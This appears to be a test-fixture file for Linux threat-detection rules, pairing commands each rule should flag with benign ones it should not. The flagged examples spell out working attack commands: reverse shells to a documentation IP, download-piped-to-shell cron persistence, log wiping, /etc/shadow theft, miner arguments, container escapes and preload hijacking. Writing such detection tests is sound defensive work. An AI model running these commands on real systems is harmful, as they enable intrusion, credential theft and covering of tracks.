import { connection, type Examples, file, run } from './example'

export const LINUX: Examples = {
  proc_creation_lnx_susp_shell_over_network_device: {
    finds: [
      run('/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/203.0.113.5/443 0>&1'),
      run(
        '/usr/bin/python3.11',
        'python3 -c import socket,pty;s=socket.socket();s.connect(("203.0.113.5",443));pty.spawn("/bin/sh")',
      ),
    ],
    leaves: [
      run('/usr/bin/python3.11', 'python3 -c import socket;print(socket.gethostname())'),
      run('/usr/bin/bash', 'bash -c ls /dev/shm'),
    ],
  },
  proc_creation_lnx_susp_download_piped_to_shell_by_cron: {
    finds: [
      run(
        '/usr/bin/dash',
        '/bin/sh -c curl -fsSL http://203.0.113.5/a.sh | bash',
        '/usr/sbin/cron',
      ),
      run(
        '/usr/bin/bash',
        'bash -c (crontab -l; echo "* * * * * wget -qO- http://203.0.113.5/a|sh") | crontab -',
      ),
    ],
    leaves: [
      run('/usr/bin/bash', 'bash -c curl -fsSL https://example.com/install.sh | sh'),
      run('/usr/bin/dash', '/bin/sh -c curl -fsS https://example.com/ping', '/usr/sbin/cron'),
    ],
  },
  proc_creation_lnx_susp_web_server_child_shell: {
    finds: [
      run('/usr/bin/dash', 'sh -c whoami', '/usr/sbin/apache2'),
      run('/usr/bin/id', 'id', '/usr/sbin/php-fpm8.2'),
    ],
    leaves: [
      run('/usr/bin/id', 'id', '/usr/bin/bash'),
      run('/usr/bin/convert', 'convert a.png b.jpg', '/usr/sbin/php-fpm8.2'),
    ],
  },
  proc_creation_lnx_susp_system_log_removal: {
    finds: [
      run('/usr/bin/rm', 'rm -f /var/log/auth.log'),
      run('/usr/bin/truncate', 'truncate -s 0 /var/log/wtmp'),
      run('/usr/bin/journalctl', 'journalctl --vacuum-time=1s'),
    ],
    leaves: [
      run('/usr/bin/rm', 'rm -f /var/log/app/old.log'),
      run('/usr/bin/journalctl', 'journalctl --vacuum-time=4weeks'),
      run('/usr/bin/rm', 'rm -f /var/log/syslog.7.gz', '/usr/sbin/logrotate'),
    ],
  },
  proc_creation_lnx_susp_shadow_file_read: {
    finds: [
      run('/usr/bin/cat', 'cat /etc/shadow'),
      run('/usr/bin/tar', 'tar czf /tmp/a.tgz /etc/passwd /etc/shadow'),
    ],
    leaves: [
      run('/usr/bin/cat', 'cat /etc/passwd'),
      run('/usr/sbin/usermod', 'usermod --password-file /etc/shadow'),
    ],
  },
  proc_creation_lnx_susp_miner_pool_argument: {
    finds: [
      run('/tmp/kdevtmpfsi', 'kdevtmpfsi -o stratum+tcp://203.0.113.5:3333 -u 4A'),
      run('/dev/shm/x', 'x --donate-level 1 -o 203.0.113.5:443'),
    ],
    leaves: [run('/usr/bin/node', 'node stratum.js --donate')],
  },
  proc_creation_lnx_susp_container_escape_to_host: {
    finds: [
      run('/usr/bin/docker', 'docker run -it --privileged -v /:/host alpine chroot /host'),
      run('/usr/bin/nsenter', 'nsenter --target 1 --mount --uts --ipc --net --pid -- bash'),
    ],
    leaves: [
      run('/usr/bin/docker', 'docker run -v /srv/data:/data nginx'),
      run('/usr/bin/nsenter', 'nsenter --target 12345 --net ip addr'),
    ],
  },
  file_event_lnx_susp_authorized_keys_written: {
    finds: [
      file('/usr/bin/bash', '/root/.ssh/authorized_keys'),
      file('/usr/bin/curl', '/home/app/.ssh/authorized_keys'),
    ],
    leaves: [
      file('/usr/bin/vim', '/root/.ssh/authorized_keys'),
      file('/usr/sbin/waagent', '/home/azureuser/.ssh/authorized_keys'),
      file('/usr/bin/bash', '/root/.ssh/known_hosts'),
    ],
  },
  file_event_lnx_susp_dynamic_linker_preload: {
    finds: [file('/usr/bin/tee', '/etc/ld.so.preload')],
    leaves: [file('/usr/sbin/ldconfig', '/etc/ld.so.cache')],
  },
  net_connection_lnx_susp_shell_public_connection: {
    finds: [
      connection('/usr/bin/bash', '203.0.113.5', 443),
      connection('/usr/bin/dash', '2001:db8::5', 4444),
    ],
    leaves: [
      connection('/usr/bin/bash', '10.0.0.5', 5432),
      connection('/usr/bin/curl', '203.0.113.5', 443),
      { ...connection('/usr/bin/bash', '203.0.113.5', 443), Initiated: 'false' },
    ],
  },
}
